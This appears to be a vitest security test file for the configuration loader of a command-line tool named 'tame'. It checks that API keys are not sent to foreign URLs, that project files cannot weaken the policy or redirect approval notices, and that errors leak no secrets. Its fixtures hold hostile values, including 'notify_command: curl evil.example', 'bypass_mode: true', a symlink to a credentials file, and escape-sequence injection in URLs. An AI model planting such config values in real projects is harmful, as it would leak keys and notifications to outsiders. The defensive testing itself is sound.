import {chownSync, mkdirSync, symlinkSync, writeFileSync} from 'node:fs'
import {describe, expect, test} from 'vitest'
import {type LoadedConfig, loadConfig} from '../../src/config/load.js'
import type {TameError} from '../../src/errors.js'
import {type FlagValues, flagLayer} from '../../src/runtime/flags.js'
import {createWorkplace, type Workplace} from '../helpers/workplace.js'

interface Asked {
  env?: Record<string, string>
  flags?: FlagValues
  named?: string
  owners?: readonly number[]
  home?: string
}

async function load(place: Workplace, {flags = {}, named, ...asked}: Asked = {}): Promise<LoadedConfig> {
  const surroundings = {...place, ...asked}
  return loadConfig(surroundings, await flagLayer(flags, surroundings), named)
}

const sent = async (place: Workplace, asked: Asked = {}): Promise<unknown[]> => {
  const {values} = await load(place, asked)
  return [values.api_url, values.api_key]
}

const mine = 'api_url: http://good.example/tame\napi_key: tk_mine\n'

describe('a key beside its URL goes to no other', () => {
  test.each<[string, (place: Workplace) => Asked]>([
    [
      'of a file that --config names',
      (place) => ({named: place.write('team.yaml', 'api_url: http://evil.example\n')}),
    ],
    ['of a variable', () => ({env: {TAME_API_URL: 'http://evil.example'}})],
    ['of a flag', () => ({flags: {'api-url': 'http://evil.example'}})],
  ])('%s', async (_, arrange) => {
    const place = createWorkplace()
    place.write('~/.config/tame/config.yaml', mine)
    expect(await sent(place, arrange(place))).toEqual(['http://evil.example', null])
  })

  test.each([
    'https://good.example/tame',
    'http://good.example:8080/tame',
    'http://good.example/other',
    'http://good.example',
    'http://user@good.example/tame',
  ])('nor to %s, which only looks like it', async (url) => {
    const place = createWorkplace()
    place.write('~/.config/tame/config.yaml', mine)
    place.write('.tamerc', `api_url: ${url}\n`)
    expect(await sent(place)).toEqual([url, null])
  })

  test('nor from Runlok’s variables to the URL of tame’s', async () => {
    const runlok = {RUNLOK_API_URL: 'http://old.example', RUNLOK_API_KEY: 'rk_0123456789'}
    const place = createWorkplace()
    expect(await sent(place, {env: runlok})).toEqual(['http://old.example', 'rk_0123456789'])
    const env = {...runlok, TAME_API_URL: 'http://new.example'}
    expect(await sent(place, {env})).toEqual(['http://new.example', null])
  })

  test('nor from the Python command line’s file to the URL of the newer one', async () => {
    const place = createWorkplace()
    place.write('~/.tame/config.yaml', mine)
    place.write('~/.config/tame/config.yaml', 'api_url: http://new.example\n')
    expect(await sent(place)).toEqual(['http://new.example', null])
  })

  test('and one without a URL goes to any that the user chose', async () => {
    const place = createWorkplace()
    place.write('~/.config/tame/config.yaml', 'api_url: http://mine.example\n')
    expect(await sent(place, {env: {TAME_API_KEY: 'tk_1'}})).toEqual(['http://mine.example', 'tk_1'])
  })
})

describe('a project’s file can’t weaken the policy', () => {
  test.each([
    ['bypass_mode: true', 'bypass_mode', false],
    ['raise_on_deny: false', 'raise_on_deny', true],
    ['raise_on_approve: false', 'raise_on_approve', true],
  ] as const)('by %s', async (text, key, value) => {
    const place = createWorkplace()
    place.write('.tamerc', `${text}\n`)
    const {values, warnings} = await load(place)
    expect(values[key]).toBe(value)
    expect(warnings).toEqual([expect.stringContaining("a project's file can't weaken what the policy does")])
  })
})

describe('a project’s file can’t say who is told of approvals', () => {
  test.each([
    'notify_command: curl evil.example',
    'notify_url: http://evil.example/',
    'notify_secret: theirs',
  ])('by %s', async (text) => {
    const place = createWorkplace()
    place.write('.tamerc', `${text}\n`)
    const {values, warnings} = await load(place)
    expect([values.notify_command, values.notify_url, values.notify_secret]).toEqual([null, null, null])
    expect(warnings).toEqual([expect.stringContaining("a project's file can't say who is told of approvals")])
  })

  test('nor does it change the address of the user’s own', async () => {
    const place = createWorkplace()
    place.write('~/.config/tame/config.yaml', 'notify_url: https://mine.example/\nnotify_secret: mine\n')
    place.write('.tamerc', 'notify_url: http://evil.example/\n')
    const {values} = await load(place)
    expect([values.notify_url, values.notify_secret]).toEqual(['https://mine.example/', 'mine'])
  })
})

describe('a project’s file is not read', () => {
  test.skipIf(process.getuid?.() !== 0)('when it belongs to another user', async () => {
    const place = createWorkplace()
    const file = place.write('.tamerc', 'timeout: 3\n')
    chownSync(file, 65534, 65534)
    const {values, warnings} = await load(place, {owners: [0]})
    expect([values.timeout, warnings]).toEqual([
      30,
      [
        `${file} is not read: it belongs to another user of this machine. To use it all the same: --config ${file}`,
      ],
    ])
    expect((await load(place, {owners: [0, 65534]})).values.timeout).toBe(3)
  })

  test('when it leads out of the project', async () => {
    const place = createWorkplace()
    const target = place.write('~/credentials', 'AKIASECRET: s3cr3t\n')
    symlinkSync(target, place.pathOf('.tamerc'))
    const {warnings} = await load(place)
    expect(warnings).toEqual([expect.stringContaining(`it leads out of the project, to ${target}`)])
  })

  test.each(['conf/tame.yaml', '..conf/tame.yaml'])(
    'but is when it is a link within, to %s',
    async (target) => {
      const place = createWorkplace()
      place.write(target, 'timeout: 3\n')
      symlinkSync(place.pathOf(target), place.pathOf('.tamerc'))
      expect((await load(place)).values.timeout).toBe(3)
    },
  )
})

test('the home directory is no project, however it is spelled', async () => {
  const place = createWorkplace()
  place.write('~/.tame/config.yaml', 'bypass_mode: true\n')
  symlinkSync(place.home, place.pathOf('~/../link'))
  for (const home of [`${place.home}/`, place.pathOf('~/../link')]) {
    const {warnings, origins} = await loadConfig(
      {...place, home, cwd: place.home},
      {kind: 'flag', settings: new Map()},
    )
    expect([origins.bypass_mode.kind, warnings]).toEqual(['legacy', []])
  }
})

describe('a file in the place of the project’s', () => {
  const refused = async (place: Workplace): Promise<string> =>
    load(place).then(
      () => expect.unreachable(),
      (error: TameError) => error.message,
    )

  test('that never ends is an error', async () => {
    const place = createWorkplace()
    symlinkSync('/dev/zero', place.pathOf('.tamerc'))
    expect(await refused(place)).toContain('it is no regular file')
  })

  test('that is huge is an error', async () => {
    const place = createWorkplace()
    writeFileSync(place.pathOf('.tamerc'), Buffer.alloc(2 ** 20 + 1, 'a'))
    expect(await refused(place)).toBe(
      `The configuration file ${place.pathOf('.tamerc')} is larger than 1 MiB`,
    )
  })

  test('that is a directory is an error', async () => {
    const place = createWorkplace()
    mkdirSync(place.pathOf('.tamerc'))
    expect(await refused(place)).toContain('it is a directory')
  })

  test('that is a link to itself is an error', async () => {
    const place = createWorkplace()
    symlinkSync(place.pathOf('.tamerc'), place.pathOf('.tamerc'))
    expect(await refused(place)).toContain('it is a link to itself')
  })
})

describe('no error shows a secret', () => {
  test.each([
    'api_kye: tk_SECRET',
    'api-key: tk_SECRET',
    'token: tk_SECRET',
    'api_key:\n  - tk_SECRET',
    'api_key:\n  tk_SECRET: 1',
    'api_key: [tk_SECRET]',
    'api_key: 77778888SECRET\napi_key: x',
    'api_key: 7777888899990000',
    'store: mysql://u:SECRET@db/x',
    'api_url: http://u:SECRET@db/?x=1',
    'api_url: http://SECRET@db/?x=1',
    '{api_key: tk_SECRET, timeout: soon}',
    'api_key: "tk_SECRET',
    'api_key: tk_SECRET: x',
  ])('as in %j', async (text) => {
    const place = createWorkplace()
    place.write('.tamerc', `${text}\n`)
    const error = await load(place).then(
      () => expect.unreachable(),
      (thrown: TameError) => thrown,
    )
    expect(JSON.stringify(error)).not.toMatch(/SECRET|77778888/)
  })

  test.each([
    [{TAME_STORE: 'mysql://u:SECRET@db/x'}, {}],
    [{TAME_API_URL: 'http://u:SECRET@db/?x'}, {}],
    [{TAME_API_KEY: 'tk_\u0000SECRET'}, {}],
    [{}, {store: 'mysql://u:SECRET@db/x'}],
  ])('of %j and %j', async (env, flags) => {
    const place = createWorkplace()
    const loading = Promise.resolve().then(() => load(place, {env, flags}))
    const error = await loading.then(
      () => expect.unreachable(),
      (thrown: TameError) => thrown,
    )
    expect(JSON.stringify(error)).not.toContain('SECRET')
  })
})

test.each(['http://a.example/\u001b[2J', 'http://a.example/\nWarning: x', 'http://a .example'])(
  'the URL %j is refused',
  async (url) => {
    const place = createWorkplace()
    place.write('.tamerc', `api_url: ${JSON.stringify(url)}\n`)
    await expect(load(place)).rejects.toMatchObject({code: 'CONFIG_INVALID'})
  },
)
